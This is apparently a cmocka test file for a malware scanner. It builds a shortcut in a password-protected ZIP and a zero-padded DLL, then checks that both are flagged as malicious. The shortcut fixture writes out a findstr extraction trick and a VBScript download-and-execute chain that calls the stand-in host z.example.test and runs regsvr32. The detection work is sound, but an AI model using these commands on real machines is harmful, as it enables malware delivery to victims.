/* Payloads as they arrive: inside ZIP archives (password-protected, as in the 2022 shortcut
 * wave; inflated past 100 MB with zeros, as in March 2023). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "archive_zipw.h"
#include "payload_fixtures.h"
#include "testutil.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const eg_object *object_named(const eg_report *r, const char *name)
{
    for (size_t i = 0; i < eg_report_object_count(r); i++) {
        const eg_object *o = eg_report_object(r, i);
        if (o->name && !strcmp(o->name, name))
            return o;
    }
    return NULL;
}

static bool rule_on(const eg_report *r, const char *rule, uint32_t obj)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++) {
        const eg_finding *f = eg_report_finding(r, i);
        if (f->object == obj && !strcmp(eg_rule_get(f->rule)->id, rule))
            return true;
    }
    return false;
}

static void lnk_in_password_zip(void **st)
{
    (void)st;
    const char vbs[] = "Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.Open \"GET\", \"http://z.example.test/a\", False\r\n"
                       "CreateObject(\"WScript.Shell\").Run \"regsvr32 /s %TEMP%\\a.ocx\"\r\n";
    eg_test_lnk t = {.relative_path = "..\\..\\Windows\\system32\\cmd.exe",
                     .arguments = "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" \"INV 2022-04-25_1114, USA.doc.lnk\" > "
                                  "\"%tmp%\\YlScZcZKeP.vbs\" & \"%tmp%\\YlScZcZKeP.vbs\"",
                     .appended = (const uint8_t *)vbs,
                     .appended_len = sizeof vbs - 1};
    size_t ln;
    uint8_t *lnk = eg_test_lnk_build(&t, &ln);
    eg_zw *w = eg_zw_new();
    eg_zw_opts o = {.name = "INV 2022-04-25_1114, USA.doc.lnk", .method = 8, .aes = "Ab12"};
    eg_zw_add(w, &o, lnk, ln);
    size_t zn;
    uint8_t *zip = eg_zw_finish(w, &zn);
    const char *const pw[] = {"Ab12", NULL};
    eg_report *r = eg_test_scan(zip, zn, pw);
    assert_non_null(r);
    const eg_object *l = object_named(r, "INV 2022-04-25_1114, USA.doc.lnk");
    if (!l) {
        eg_test_dump(r);
        fail_msg("the shortcut was not taken out of the archive");
    }
    assert_int_equal(l->type, EG_T_LNK);
    assert_true(l->flags & EG_OBJ_DECRYPTED);
    assert_true(rule_on(r, "CMD.FINDSTR_EXTRACT", l->id));
    assert_true(rule_on(r, "LNK.APPENDED_DATA", l->id));
    assert_true(eg_test_has_rule(r, "SCRIPT.DOWNLOAD_EXECUTE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(zip);
    free(lnk);
}

/* A DLL padded with zeros past 100 MB, deflated into a small ZIP: the archive reader collapses the
 * zeros and the padding is reported with the true size. */
static void inflated_dll_in_zip(void **st)
{
    (void)st;
    eg_test_pe spec = {.dll = true, .x64 = true, .dll_name = "a.dll", .exports = {"DllRegisterServer", NULL},
                       .overlay_zeros = (size_t)120 << 20};
    size_t pn;
    uint8_t *pe = eg_test_pe_build(&spec, &pn);
    eg_zw *w = eg_zw_new();
    eg_zw_opts o = {.name = "Vdfe.ooccxx", .method = 8};
    eg_zw_add(w, &o, pe, pn);
    size_t zn;
    uint8_t *zip = eg_zw_finish(w, &zn);
    free(pe);
    assert_true(zn < 1u << 20);
    eg_report *r = eg_test_scan(zip, zn, NULL);
    const eg_object *d = object_named(r, "Vdfe.ooccxx");
    if (!d || !(d->flags & EG_OBJ_PADDED)) {
        eg_test_dump(r);
        fail_msg("the padded DLL did not arrive collapsed and flagged");
    }
    assert_int_equal(d->type, EG_T_PE);
    assert_true(d->size_true >= (uint64_t)120 << 20);
    assert_true(rule_on(r, "PAD.INFLATED", d->id));
    assert_true(rule_on(r, "PE.DISGUISED", d->id));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(zip);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lnk_in_password_zip),
        cmocka_unit_test(inflated_dll_in_zip),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
